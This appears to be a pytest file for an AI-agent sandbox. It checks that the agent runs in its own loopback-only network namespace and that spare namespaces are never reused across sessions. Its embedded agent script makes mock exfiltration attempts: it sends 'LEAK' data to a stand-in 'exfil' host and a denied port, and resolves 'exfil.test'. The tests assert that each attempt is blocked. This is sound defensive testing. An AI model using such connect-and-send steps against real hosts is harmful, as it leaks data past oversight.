"""The root rung's loopback-only layer as `sandbox.run` builds it: the sandbox's init makes
the namespace (LG_NS_NET_INIT) and landgate binds the DNS view there through init's pidfd
before the agent is released (issue 19: the namespace's set-up runs in the child).

The agent must be in a namespace of its own with only `lo`, up, from its first
instruction: a policy that reaches nothing outside gets no route to anything (the fake
internet logs nothing), while its own loopback, the DNS view (a denied name is NXDOMAIN
and recorded) and an allowed host loopback port work and a denied one is refused.
test_agent_runs_in_inits_own_namespace fails with init's unshare taken out (the agent
then shares landgate's namespace: checked when it was written).
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

from conftest import RecordingServer, require_root

import sandbox

from .conftest import ADDRS, FakeInet, wait_for

PY3 = "/usr/bin/python3"

AGENT = """
import errno, json, os, socket, sys
out = {"netns": os.stat("/proc/self/ns/net").st_ino}
out["links"] = sorted(n for _, n in socket.if_nameindex())
def attempt(key, fn):
    try:
        fn()
        out[key] = "reached"
    except socket.gaierror as e:
        out[key] = "nxdomain" if e.errno == socket.EAI_NONAME else "gaierror"
    except OSError as e:
        out[key] = errno.errorcode.get(e.errno, str(e.errno))
exfil, allowed, denied = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
attempt("tcp4", lambda: socket.create_connection((exfil, 80), timeout=3).sendall(b"LEAK-tcp"))
attempt("dns", lambda: socket.getaddrinfo("exfil.test", 80, socket.AF_INET))
def own():
    srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
    c = socket.create_connection(srv.getsockname(), timeout=3)
    a, _ = srv.accept(); a.sendall(b"own"); assert c.recv(3) == b"own"
attempt("own", own)
def host(port, msg):
    s = socket.create_connection(("127.0.0.1", port), timeout=3); s.recv(10); s.sendall(msg)
attempt("allowed", lambda: host(allowed, b"to-allowed-host"))
attempt("denied", lambda: host(denied, b"LEAK-denied-host"))
print(json.dumps(out))
"""


def _policy(tmp: Path, allowed: int) -> Path:
    path = tmp / "lo-only.yaml"
    path.write_text(
        f"""version: 1
workspace: {tmp}
actions:
  - action: file_read
    defaultEffect: deny
    rules:
      - {{ path: "./", effect: allow }}
  - action: shell_exec
    defaultEffect: deny
    rules:
      - {{ command: "python3 *", effect: allow }}
  - action: network
    defaultEffect: deny
    rules:
      - {{ destination: "localhost:{allowed}", effect: allow }}
"""
    )
    return path


def _run_agent(tmp: Path, allowed: RecordingServer, denied: RecordingServer) -> Any:
    """The agent under sandbox.run with the loopback-only policy; it must exit 0."""
    res = sandbox.run(
        [PY3, "-I", "-c", AGENT, ADDRS["exfil"], str(allowed.port), str(denied.port)],
        policy=str(_policy(tmp, allowed.port)),
        audit=str(tmp / "audit"),
        cwd=str(tmp),
        capture_output=True,
    )
    assert res.returncode == 0, res.stderr
    return res


def _no_spare() -> None:
    """Drop a spare namespace an earlier session of this process made (sandbox.run makes
    the next one at close), so that init makes this session's namespace."""
    from sandbox.net import spare

    assert wait_for(lambda: not spare._spare.making, timeout=10)
    fd = spare.take_spare_loopback()
    if fd >= 0:
        os.close(fd)


def test_agent_runs_in_inits_own_namespace(fake_inet: FakeInet, tmp_path: Path) -> None:
    require_root()
    _no_spare()
    allowed, denied = RecordingServer(), RecordingServer()
    try:
        mark = fake_inet.mark()
        res = _run_agent(tmp_path, allowed, denied)
        got = json.loads(res.stdout)
        # Its own namespace, with nothing but its loopback: not landgate's.
        assert got.pop("netns") != os.stat("/proc/self/ns/net").st_ino
        assert got == {
            "links": ["lo"],
            "tcp4": "ECONNREFUSED",  # the supervisor's refusal (and no route behind it)
            "dns": "nxdomain",  # the DNS view on the sandbox's own 127.0.0.1:53
            "own": "reached",  # lo is up: the agent's private loopback
            "allowed": "reached",  # the forwarder's listener, bound in init's namespace
            "denied": "ECONNREFUSED",
        }, got
        assert wait_for(lambda: b"to-allowed-host" in bytes(allowed.received))
        assert denied.connections == 0 and b"LEAK" not in bytes(denied.received)
        assert not wait_for(
            lambda: any("LEAK" in str(e.get("data")) for e in fake_inet.since(mark)), timeout=1
        )
        dns = [d for d in res.decisions if d.get("layer") == "dns" and d.get("result") == "deny"]
        assert any(d.get("target") == "exfil.test" for d in dns), res.decisions
        start = res.decisions[0]
        assert start["network_layer"].startswith("loopback-only"), start
        assert start["applied"]["namespaces"] & 16  # LG_NS_NET_INIT: init made it
    finally:
        allowed.close()
        denied.close()


def test_spare_namespace_is_fresh_and_never_used_twice(fake_inet: FakeInet, tmp_path: Path) -> None:
    """After a session, the next one's namespace is made in the background (issue 19: the
    kernel's pernet set-up off the launch path).  The session that takes it gets the same
    layer as init's own namespace, and no namespace ever serves two sessions: each run's
    agent is in a namespace of its own, never landgate's, never an earlier session's.
    (A namespace's inode number is reused once it is gone: the test holds each spare it
    saw, so that two runs with one number are in one namespace.)  Fails with the spare
    handed out without being taken (the second and third runs would share one namespace:
    checked when it was written)."""
    require_root()
    from sandbox.net import spare

    allowed, denied = RecordingServer(), RecordingServer()
    seen: list[int] = []
    held: list[int] = []
    try:
        for run in range(3):
            if run:
                # The spare the previous session began to make as it ended; held open
                # here, so its number is never another namespace's during the test.
                assert wait_for(lambda: spare._spare.fd >= 0, timeout=10)
                held.append(os.open(f"/proc/self/fd/{spare._spare.fd}", os.O_RDONLY))
                spare_ino = os.fstat(held[-1]).st_ino
            res = _run_agent(tmp_path, allowed, denied)
            got = json.loads(res.stdout)
            ino = got.pop("netns")
            if run:
                assert ino == spare_ino  # the spare was taken ...
                assert res.decisions[0]["applied"]["namespaces"] & 16 == 0  # ... not made by init
            assert got == {
                "links": ["lo"],
                "tcp4": "ECONNREFUSED",
                "dns": "nxdomain",  # the DNS view, bound in the spare
                "own": "reached",
                "allowed": "reached",
                "denied": "ECONNREFUSED",
            }, got
            seen.append(ino)
        assert os.stat("/proc/self/ns/net").st_ino not in seen
        assert seen[1] != seen[2], seen  # two live namespaces, one per session
        assert denied.connections == 0 and b"LEAK" not in bytes(denied.received)
    finally:
        allowed.close()
        denied.close()
        for fd in held:
            os.close(fd)
